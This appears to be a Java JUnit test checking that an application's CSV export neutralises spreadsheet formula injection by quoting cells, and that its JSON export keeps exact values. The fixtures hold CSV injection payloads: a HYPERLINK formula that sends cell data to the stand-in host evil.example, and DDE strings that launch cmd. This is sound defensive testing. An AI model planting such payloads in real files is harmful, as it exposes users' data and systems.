package app.soapstone.record;

import app.soapstone.support.RecordsTest;
import app.soapstone.support.SoapstoneTest;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code export}: a CSV cell a spreadsheet would run as a formula - text starting with {@code =},
 * {@code +}, {@code -}, {@code @}, a tab or a carriage return - is written with a single quote
 * before it, as OWASP recommends, and every value is quoted; numbers are written as they are; the
 * JSON keeps every value exactly; the export's README says so.
 */
@Tag(SoapstoneTest.POSTGRESQL)
class DataExportFormulasTest extends RecordsTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    private static final String DDE = "+cmd|' /C calc'!A0";
    private static final String SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String MINUS = "-2+3+cmd|' /C calc'!A0";

    @TempDir
    Path temp;

    @Test
    void formulaCellsAreNeutralisedInTheCsv() throws Exception {
        long client = formulas();
        Path folder = temp.resolve("export");

        run("export --to " + folder).expectOk();

        CSVRecord row = clientRow(folder, client);
        assertThat(row.get("first_name")).isEqualTo("'" + HYPERLINK);
        assertThat(row.get("last_name")).isEqualTo("'" + DDE);
        assertThat(row.get("preferred_name")).isEqualTo("'" + SUM);
        assertThat(row.get("print_name")).isEqualTo("'" + MINUS);
        assertThat(row.get("phone")).isEqualTo("'+61 412 345 678");
        assertThat(row.get("address")).isEqualTo("'\t12 Tab St");
        assertThat(row.get("notes")).as("a quote inside is not a cell's start").isEqualTo("Said " + HYPERLINK);
        assertThat(row.get("emergency_contact")).as("no value").isEmpty();
        String text = Files.readString(folder.resolve("client.csv"), StandardCharsets.UTF_8);
        assertThat(text).as("every value quoted; no value left empty")
                .contains("\"'" + HYPERLINK.replace("\"", "\"\"") + "\"")
                .contains("\"" + client + "\",").contains(",,");
    }

    @Test
    void numbersAreWrittenAsTheyAre() throws Exception {
        formulas();
        // The schema history outlives each test, so its checksum is put back afterwards.
        Integer checksum = jdbc.sql("SELECT checksum FROM flyway_schema_history WHERE installed_rank = 1")
                .query(Integer.class).single();
        Path folder = temp.resolve("export");
        try {
            jdbc.sql("UPDATE flyway_schema_history SET checksum = -12345 WHERE installed_rank = 1").update();
            run("export --to " + folder).expectOk();
        } finally {
            jdbc.sql("UPDATE flyway_schema_history SET checksum = ? WHERE installed_rank = 1").param(checksum).update();
        }

        try (CSVParser csv = parse(folder.resolve("flyway_schema_history.csv"))) {
            assertThat(csv.getRecords().getFirst().get("checksum")).isEqualTo("-12345");
        }
    }

    @Test
    void theJsonKeepsEveryValueExactly() throws Exception {
        long client = formulas();
        Path folder = temp.resolve("export");

        run("export --to " + folder).expectOk();

        JsonNode json = JsonMapper.builder().build().readTree(Files.readString(folder.resolve("clients")
                .resolve(client + ".json"), StandardCharsets.UTF_8)).get("client");
        assertThat(json.get("first_name").asString()).isEqualTo(HYPERLINK);
        assertThat(json.get("last_name").asString()).isEqualTo(DDE);
        assertThat(json.get("phone").asString()).isEqualTo("+61 412 345 678");
        assertThat(json.get("address").asString()).isEqualTo("\t12 Tab St");
    }

    @Test
    void theReadmeSaysHowFormulasAreNeutralised() throws Exception {
        formulas();
        Path folder = temp.resolve("export");

        run("export --to " + folder).expectOk();

        String readme = Files.readString(folder.resolve("README.md"), StandardCharsets.UTF_8);
        assertThat(readme).contains("single quote").contains("=, +, -, @").contains("client import")
                .contains("JSON");
    }

    // ---------------------------------------------------------------- helpers

    private long formulas() {
        practitioner("Sam Jones");
        return Long.parseLong(runWords("client", "add", "--first-name", HYPERLINK, "--last-name", DDE,
                "--preferred-name", SUM, "--print-name", MINUS, "--phone", "+61 412 345 678",
                "--address", "\t12 Tab St", "--notes", "Said " + HYPERLINK).expectOk());
    }

    private static CSVRecord clientRow(Path folder, long client) throws Exception {
        try (CSVParser csv = parse(folder.resolve("client.csv"))) {
            List<CSVRecord> rows = csv.getRecords();
            return rows.stream().filter(r -> r.get("id").equals(String.valueOf(client))).findFirst().orElseThrow();
        }
    }

    private static CSVParser parse(Path file) throws Exception {
        Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8);
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(reader);
    }
}
